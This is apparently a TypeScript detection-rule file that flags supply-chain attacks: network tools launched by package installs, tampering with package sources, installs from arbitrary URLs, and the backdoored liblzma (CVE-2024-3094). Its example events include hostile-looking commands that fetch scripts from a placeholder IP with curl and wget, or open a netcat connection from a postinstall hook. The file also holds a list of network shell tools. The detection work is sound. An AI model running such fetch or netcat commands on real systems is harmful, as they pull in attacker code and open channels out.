import type { Facts } from "#alert/facts.ts";
import type { Indicator } from "../../indicator.ts";
import { calls, hasWord, quoteOfNeedle, withoutVersion, wordWhere } from "../execution/calls.ts";
import { inContainer, onHost, ran } from "../execution/examples.ts";
import { gated } from "../execution/needles.ts";
import { downloaders, netcats } from "../execution/programs.ts";
import { behind } from "../gates.ts";

/** Foreign software on the way in. */

const installers = new Set([
  "npm",
  "npx",
  "yarn",
  "pnpm",
  "pip",
  "pip3",
  "gem",
  "bundle",
  "composer",
  "cargo",
  "poetry",
  "uv",
  "easy_install",
  "bun",
  "npm install",
  "npm ci",
  "npm run",
  "npm exec",
]);

const installWords = [
  "npm install",
  "npm ci",
  "npm i ",
  "yarn install",
  "yarn add",
  "pnpm install",
  "pnpm add",
  "pip install",
  "pip3 install",
  "-m pip install",
  "gem install",
  "composer install",
  "postinstall",
  "preinstall",
  "setup.py install",
  "setup.py egg_info",
  "npm-cli.js install",
  "npm-cli.js ci",
  "npm-cli.js i ",
];

const networkTools = new Set([
  ...downloaders,
  ...netcats,
  "socat",
  "ssh",
  "scp",
  "telnet",
  "nmap",
  "dig",
  "nslookup",
  "ping",
  "ftp",
  "rsync",
  "host",
  "tcpdump",
]);

const sources =
  /(?:\/etc\/apt\/sources\.list(?:\.d\/[\w.-]*)?|\/etc\/apt\/(?:trusted\.gpg(?:\.d\/[\w.-]*)?|keyrings\/[\w.-]+)|\/etc\/yum\.repos\.d(?:\/[\w.-]*)?|\/etc\/yum\.conf|\/etc\/dnf\/dnf\.conf|\/etc\/apk\/repositories(?:\.d\/[\w.-]*)?|\/etc\/zypp\/repos\.d(?:\/[\w.-]*)?|\/etc\/pacman\.(?:conf|d\/mirrorlist)|\/etc\/pip\.conf|(?:\.pip|\.config\/pip)\/pip\.conf|\/etc\/npmrc)(?![\w-])/;

export const networkToolDuringInstall: Indicator = {
  id: "network-tool-during-install",
  behaviour: "is a network tool that the installation of a package started",
  meaning:
    "A package's install script that fetches or sends data is how poisoned packages bring in the rest and carry secrets out.",
  technique: "T1195.002",
  tactic: "initial-access",
  alsoTechniques: ["T1195.001", "T1105"],
  severity: "high",
  certainty: "likely",
  platforms: ["Linux", "Containers"],
  families: ["syscall"],
  source: "https://attack.mitre.org/techniques/T1195/002/",
  match: behind({ processes: networkTools }, (facts) => {
    if (facts.connection !== null || !networkTools.has(facts.process.name ?? "")) return null;
    return installerAmong(facts);
  }),
  examples: {
    found: [
      ran("curl -s http://203.0.113.9/a.sh", {
        "proc.pname": "sh",
        "proc.aname[2]": "npm",
        "proc.aname[3]": "bash",
        ...inContainer,
      }),
      ran("nc 203.0.113.9 443", { "proc.pname": "sh", "proc.pcmdline": "sh -c node postinstall.js" }),
      ran("wget http://203.0.113.9/x", { "proc.pname": "node", "proc.aname[2]": "npm install" }),
    ],
    ignored: [
      ran("curl -s https://example.com", { "proc.pname": "bash", "proc.aname[2]": "sshd" }),
      ran("node-gyp rebuild", { "proc.pname": "npm" }),
    ],
  },
};

export const changesPackageSource: Indicator = {
  id: "changes-package-source",
  behaviour: "changes where packages come from, or which keys they may be signed with",
  meaning: "The next ordinary installation then brings the attacker's software, as root.",
  technique: "T1195.002",
  tactic: "initial-access",
  alsoTechniques: ["T1072", "T1553"],
  severity: "medium",
  certainty: "weak",
  platforms: ["Linux"],
  families: ["syscall"],
  source: "https://github.com/falcosecurity/rules/blob/main/rules/falco-sandbox_rules.yaml",
  match: gated(["/apt/", "/yum", "/dnf/", "/etc/apk/", "zypp", "pacman", "pip.conf", "npmrc"], ({ file }) => {
    if (file === null || file.access === "read" || file.access === "execute") return null;
    return sources.exec(file.path)?.[0] ?? (file.newPath === null ? null : (sources.exec(file.newPath)?.[0] ?? null));
  }),
  examples: {
    found: [
      {
        "evt.type": "openat",
        "evt.arg.flags": "O_TRUNC|O_CREAT|O_WRONLY",
        "fd.name": "/etc/apt/sources.list.d/extra.list",
        "proc.cmdline": "tee /etc/apt/sources.list.d/extra.list",
        "proc.name": "tee",
        ...onHost,
      },
      {
        "evt.type": "rename",
        "evt.arg.oldpath": "/tmp/r",
        "evt.arg.newpath": "/etc/yum.repos.d/x.repo",
        "proc.cmdline": "mv /tmp/r /etc/yum.repos.d/x.repo",
        "proc.name": "mv",
      },
    ],
    ignored: [
      {
        "evt.type": "openat",
        "evt.arg.flags": "O_RDONLY",
        "fd.name": "/etc/apt/sources.list",
        "proc.cmdline": "apt-get update",
        "proc.name": "apt-get",
      },
      {
        "evt.type": "openat",
        "evt.arg.flags": "O_CREAT|O_WRONLY",
        "fd.name": "/var/lib/apt/lists/lock",
        "proc.cmdline": "apt-get update",
        "proc.name": "apt-get",
      },
    ],
  },
};

export const installsPackageFromElsewhere: Indicator = {
  id: "installs-package-from-elsewhere",
  behaviour: "installs a package from an address instead of the usual registry",
  meaning: "Nobody has looked at such a package, and its install script runs at once.",
  technique: "T1195.001",
  tactic: "initial-access",
  alsoTechniques: ["T1105", "T1204.005"],
  severity: "medium",
  certainty: "weak",
  platforms: ["Linux", "Containers"],
  families: ["syscall"],
  source: "https://attack.mitre.org/techniques/T1195/001/",
  match: calls(
    new Set(["pip", "pip3", "pipx", "npm", "yarn", "pnpm", "gem", "go", "cargo", "rpm", "dpkg", "yum", "dnf"]),
    (call) => {
      const installs = hasWord(call, "install", "add", "i", "-i", "-U", "-Uvh", "-ivh");
      if (!installs) return false;
      return wordWhere(
        call,
        (value) => /^(?:git\+)?https?:\/\//.test(value) || /^--(?:extra-)?index-url|^--registry/.test(value),
      );
    },
  ),
  examples: {
    found: [
      ran("pip install --index-url http://203.0.113.9/simple tool"),
      ran("npm install https://203.0.113.9/p.tgz"),
      ran("rpm -Uvh http://203.0.113.9/x.rpm"),
    ],
    ignored: [ran("pip install requests"), ran("npm ci"), ran("curl https://example.com/install")],
  },
};

export const loadsBackdooredLiblzma: Indicator = {
  id: "loads-backdoored-liblzma",
  behaviour: "loads a release of liblzma that carries a back door (CVE-2024-3094)",
  meaning: "With it the SSH daemon runs commands for whoever holds a certain key, before any login.",
  technique: "T1195.002",
  tactic: "initial-access",
  alsoTechniques: ["T1556", "T1554"],
  severity: "critical",
  certainty: "certain",
  platforms: ["Linux"],
  families: ["syscall"],
  source: "https://nvd.nist.gov/vuln/detail/CVE-2024-3094",
  match: gated(["liblzma.so.5.6."], (facts) =>
    (facts.process.name ?? "sshd").startsWith("sshd") && /liblzma\.so\.5\.6\.[01](?!\d)/.test(facts.text)
      ? quoteOfNeedle(facts, ["liblzma.so.5.6.0", "liblzma.so.5.6.1"])
      : null,
  ),
  examples: {
    found: [
      {
        "evt.type": "openat",
        "fd.name": "/lib/x86_64-linux-gnu/liblzma.so.5.6.0",
        "proc.name": "sshd",
        "proc.cmdline": "sshd -D",
        ...onHost,
      },
      {
        "evt.type": "openat",
        "fd.name": "/usr/lib64/liblzma.so.5.6.1",
        "proc.name": "sshd",
        "proc.cmdline": "sshd -D -R",
        ...onHost,
      },
    ],
    ignored: [
      {
        "evt.type": "openat",
        "fd.name": "/lib/x86_64-linux-gnu/liblzma.so.5.4.5",
        "proc.name": "sshd",
        "proc.cmdline": "sshd -D",
      },
      {
        "evt.type": "openat",
        "fd.name": "/usr/lib64/liblzma.so.5.6.1",
        "proc.name": "xz",
        "proc.cmdline": "xz -d a.xz",
      },
      {
        "evt.type": "openat",
        "fd.name": "/usr/lib64/liblzma.so.5.6.2",
        "proc.name": "sshd",
        "proc.cmdline": "sshd -D",
      },
    ],
  },
};

function installerAmong(facts: Facts): string | null {
  const named = facts.ancestors.find((name) => installers.has(withoutVersion(name)));
  if (named !== undefined) return named;
  const line = facts.parent.command.text;
  const lower = line.toLowerCase();
  const word = lower.length === line.length ? installWords.find((words) => lower.includes(words)) : undefined;
  if (word === undefined) return null;
  const at = lower.indexOf(word);
  return line.slice(at, at + word.length);
}
